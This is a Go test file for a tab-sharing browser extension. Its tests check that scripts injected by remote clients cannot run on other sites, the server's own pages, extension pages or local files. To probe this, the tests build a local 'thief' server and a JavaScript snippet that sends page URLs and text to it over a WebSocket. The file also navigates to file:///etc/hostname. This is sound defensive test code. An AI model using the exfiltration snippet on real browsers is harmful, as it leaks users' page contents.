package extension_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"
)

// thief is a web server of whoever lies: what arrives there has left the browser.
type thief struct {
	*httptest.Server
	mu   sync.Mutex
	loot []string
}

func newThief(t *testing.T) *thief {
	t.Helper()
	c := &thief{}
	c.Server = httptest.NewServer(http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) {
		body, _ := io.ReadAll(r.Body)
		c.mu.Lock()
		defer c.mu.Unlock()
		c.loot = append(c.loot, r.URL.Query().Get("d")+string(body))
	}))
	t.Cleanup(c.Close)
	return c
}

// has tells whether something with these words was sent.
func (c *thief) has(words string) bool {
	c.mu.Lock()
	defer c.mu.Unlock()
	return slices.ContainsFunc(c.loot, func(one string) bool { return strings.Contains(one, words) })
}

// steal is script that sends where it runs, and what is there to read.
func (c *thief) steal() string {
	return fmt.Sprintf(`(() => {
	const tell = () => { new WebSocket(%q + '/?d=' + encodeURIComponent('AT ' + location.href + ' ' + document.documentElement?.innerText.slice(0, 80))) };
	tell(); document.addEventListener('DOMContentLoaded', tell) })()`, strings.Replace(c.URL, "http", "ws", 1))
}

// otherSite is where a tab that stays on the site may not be.
func otherSite(t *testing.T) string {
	t.Helper()
	bank := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(w, "<title>Bank</title><p>balance 4711")
	}))
	t.Cleanup(bank.Close)
	return strings.Replace(bank.URL, "127.0.0.1", "localhost", 1)
}

// sneak sends script under way, time and again, while the page goes where it says.
func (s *sharing) sneak(script string) {
	pace := time.NewTicker(200 * time.Microsecond)
	defer pace.Stop()
	for i := range 1500 {
		<-pace.C
		s.server.say(object{"t": "cdp", "id": 30000 + i, "session": "s_1", "tab": s.name, "method": "Runtime.evaluate"}, object{"expression": script})
	}
}

// gone waits until the tab is asleep and the person has the page that it went to.
func (s *sharing) gone(page string, c *thief) {
	s.t.Helper()
	s.server.tabsUntil("a sleeping tab", func(tabs []sharedTab) bool { return len(tabs) == 1 && tabs[0].Suspended != "" })
	s.tab.until("document.readyState === 'complete' && location.href.startsWith(" + fmt.Sprintf("%q", page) + ")")
	s.popup.eval(fmt.Sprintf("new WebSocket(%q); 0", strings.Replace(c.URL, "http", "ws", 1)+"/?d=later")) // what was stolen came before
	eventually(s.t, "what is sent later", func() bool { return c.has("later") })
}

func TestNothingOfClientsComesAlongToWhereTheGrantDoesNotReach(t *testing.T) {
	t.Parallel()
	goes := func(url string) func(*sharing) {
		return func(s *sharing) {
			s.server.say(object{"t": "cdp", "id": 29999, "session": "s_1", "tab": s.name, "method": "Runtime.evaluate"}, object{"expression": fmt.Sprintf("location.href = %q", url)})
		}
	}
	dashboard := func(s *sharing) string { return s.server.http.URL + "/dashboard" }
	for sentence, way := range map[string]struct {
		leave func(*sharing)
		to    func(*sharing) string
	}{
		"script goes to the server's own page": {func(s *sharing) { goes(dashboard(s))(s) }, dashboard},
		"a page leads there":                   {func(s *sharing) { goes(s.site.URL + "/elsewhere")(s) }, dashboard},
		"a client leads there":                 {func(s *sharing) { s.server.raw(s.name, "Page.navigate", object{"url": s.site.URL + "/elsewhere"}) }, dashboard},
		"the person goes to a file": {
			func(s *sharing) { _, _ = s.call(s.tab.session, "Page.navigate", object{"url": "file:///etc/hostname"}) },
			func(*sharing) string { return "file:///etc/hostname" },
		},
	} {
		t.Run(sentence, func(t *testing.T) {
			t.Parallel()
			s, c := newSharing(t, "act", "act"), newThief(t)
			s.server.hold(s.name)
			s.server.mustRaw(s.name, "Page.addScriptToEvaluateOnNewDocument", object{"source": c.steal()})
			s.server.mustRaw(s.name, "Page.navigate", object{"url": s.site.URL + "/permitted"})
			eventually(t, "the script, where it may run", func() bool { return c.has("/permitted") })
			way.leave(s)
			s.sneak("location.pathname === '/permitted' || " + c.steal())
			s.gone(way.to(s), c)
			if c.has("AT " + way.to(s)) {
				t.Errorf("script of clients ran there: %q", c.loot)
			}
			s.tab.goTo(s.site.URL + "/back")
			s.server.tabsUntil("a tab that is awake", func(tabs []sharedTab) bool { return tabs[0].Suspended == "" })
		})
	}
}

func TestATabThatStaysTakesNothingOfClientsElsewhere(t *testing.T) {
	t.Parallel()
	s, c, bank := newStaying(t, "act"), newThief(t), otherSite(t)
	s.server.hold(s.name)
	s.server.mustRaw(s.name, "Page.addScriptToEvaluateOnNewDocument", object{"source": c.steal()})
	s.server.mustRaw(s.name, "Runtime.evaluate", object{"expression": fmt.Sprintf("location.href = %q; 1", bank+"/top")})
	s.sneak("location.port === " + fmt.Sprintf("%q", s.site.URL[strings.LastIndex(s.site.URL, ":")+1:]) + " || " + c.steal())
	s.gone(bank+"/top", c)
	if c.has("/top") {
		t.Errorf("script of clients ran elsewhere: %q", c.loot)
	}
}

func TestATabThatStaysHidesItsFramesOfOtherSites(t *testing.T) {
	t.Parallel()
	s, bank := newStaying(t, "act"), otherSite(t)
	s.server.hold(s.name)
	mark := s.server.mark()
	s.tab.eval(fmt.Sprintf("{ const f = document.createElement('iframe'); f.src = %q; f.onload = () => { window.framed = true }; document.body.append(f) }; 0", bank+"/frame"))
	s.tab.until("window.framed === true")
	s.server.until(s.name)
	if n := s.server.count(mark, event("Target.attachedToTarget")); n != 0 {
		t.Errorf("clients are told of %d frames of another site", n)
	}
	s.target(func(info targetInfo) bool { return strings.HasPrefix(info.URL, bank) }) // in a process of its own
}

func TestAPageInATabsHistoryThatMayComeUnaskedKeepsClientsOut(t *testing.T) {
	t.Parallel()
	for sentence, page := range map[string]func(*world) string{
		"an extension's page":   func(*world) string { return "chrome-extension://" + extensionID + "/popup.html" },
		"the server's own page": func(w *world) string { return w.server.http.URL + "/dashboard" },
	} {
		t.Run(sentence, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t, "act")
			s := &sharing{world: w, tab: w.open(page(w))}
			s.tab.goTo(w.site.URL + "/first")
			s.popup = w.popup(s.tab)
			w.pair(s.popup)
			share(s.popup, "act")
			s.name = w.server.tabsUntil("one", func(tabs []sharedTab) bool { return len(tabs) == 1 })[0].ID
			got := s.server.ask(object{"t": "hold", "session": "s_1", "tab": s.name}, nil)
			if got.Code != "tab_suspended" || !strings.Contains(got.Message, "new tab") {
				t.Errorf("a hold is answered %+v, want tab_suspended and what to do", got.header)
			}
		})
	}
}

// The tab sleeps on, and says what to do.
func TestAHeldTabThatWasOnTheServersOwnPageIsNotHeldAnew(t *testing.T) {
	t.Parallel()
	s := newSharing(t, "act", "act")
	s.server.hold(s.name)
	mark := s.server.mark()
	s.tab.goTo(s.server.http.URL + "/")
	s.server.since(mark, "asleep", kind("asleep"))
	s.tab.goTo(s.site.URL + "/back")
	eventually(t, "what to do", func() bool {
		got := s.server.raw(s.name, "Runtime.evaluate", object{"expression": "1"})
		return got.Code == "tab_suspended" && strings.Contains(got.Message, "new tab")
	})
}

func TestNoPageOfTheServersOwnIsInAFrameOfAHeldTab(t *testing.T) {
	t.Parallel()
	s := newSharing(t, "act", "act")
	frame := func(path string) {
		s.tab.eval(fmt.Sprintf("{ const f = document.createElement('iframe'); f.src = %q; f.onload = () => { window.framed = true }; document.body.append(f) }; 0", path))
		s.tab.until("window.framed === true")
		s.tab.eval("delete window.framed")
	}
	s.server.hold(s.name)
	s.server.mustRaw(s.name, "Runtime.enable", nil)
	for _, url := range []string{s.server.http.URL + "/dash", s.site.URL + "/elsewhere"} {
		frame(url)
		for method, params := range map[string]object{
			"DOM.getDocument":             {"depth": -1, "pierce": true},
			"DOMSnapshot.captureSnapshot": {"computedStyles": []any{}},
		} {
			got := s.server.raw(s.name, method, params)
			if strings.Contains(string(got.body), "Only for the person") {
				t.Errorf("%s tells of the server's own page in a frame from %s", method, url)
			}
		}
	}
	frame(s.site.URL + "/other")
	if got := s.server.mustRaw(s.name, "DOM.getDocument", object{"depth": -1, "pierce": true}); !strings.Contains(string(got), "Page /other") {
		t.Error("another page does not load in a frame either")
	}
	s.server.say(object{"t": "drop", "session": "s_1", "tab": s.name})
	s.free()
	frame(s.server.http.URL + "/dash")
	if got := s.server.ask(object{"t": "hold", "session": "s_1", "tab": s.name}, nil); got.Code != "tab_suspended" {
		t.Errorf("a tab with the server's own page in a frame is held: %+v", got.header)
	}
}

// A document that waits for the edge when the worker is stopped goes on with the next one.
func TestAPageGoesOnWhenTheWorkerIsStoppedBeforeIt(t *testing.T) {
	t.Parallel()
	s := newSharing(t, "act", "act")
	s.server.hold(s.name)
	for i := range 5 {
		s.tab.unasked(fmt.Sprintf("location.href = '/page%d'", i))
		if i == 2 {
			s.stopWorker()
		}
		s.tab.until(fmt.Sprintf("location.pathname === '/page%d' && document.readyState === 'complete'", i))
	}
}

func TestAPageDoesNotStandStillForADebugger(t *testing.T) {
	t.Parallel()
	s := newSharing(t, "act", "act")
	s.server.hold(s.name)
	s.server.evaluate(s.name, "setInterval(() => { window.ticks = (window.ticks ?? 0) + 1 }, 20); { const ch = new MessageChannel(); ch.port1.onmessage = () => { debugger; ch.port2.postMessage(0) }; ch.port2.postMessage(0) }; 1")
	mark := s.server.mark()
	pace := time.NewTicker(10 * time.Millisecond)
	defer pace.Stop()
	for i := range 100 {
		<-pace.C
		for j, method := range []string{"Debugger.disable", "Debugger.enable"} {
			s.server.say(object{"t": "cdp", "id": 7000 + 2*i + j, "session": "s_1", "tab": s.name, "method": method}, object{})
		}
	}
	s.tab.eval("window.ticks = 0; 1")
	s.tab.until("window.ticks > 20")
	if n := s.server.count(mark, event("Debugger.paused")); n != 0 {
		t.Errorf("clients are told of %d pauses", n)
	}
}

// A tab that clients have left stays attached as long as a program runs in it, and its documents go on waiting for a word.
func TestAPageGoesOnWhileAProgramUsesATabThatClientsHaveLeft(t *testing.T) {
	t.Parallel()
	s := newSharing(t, "act", "act")
	s.server.hold(s.name)
	running := object{"eval": object{"expression": "document.title = 'running'", "max_chars": 100}}
	s.server.say(object{"t": "program", "id": 31, "session": "s_1"}, object{"tab": s.name, "deadline_ms": 60000, "steps": []any{running, linger(14000)}})
	s.tab.until("document.title === 'running'")
	mark := s.server.mark()
	s.server.say(object{"t": "drop", "session": "s_1", "tab": s.name})
	s.tab.eval("location.href = '/second'; 0")
	s.tab.until("document.readyState === 'complete' && location.pathname === '/second'")
	if n := s.server.count(mark, func(got frame) bool { return got.ID == 31 }); n != 0 {
		t.Error("the program had ended before the page came")
	}
	s.server.say(object{"t": "cancel", "id": 31})
}
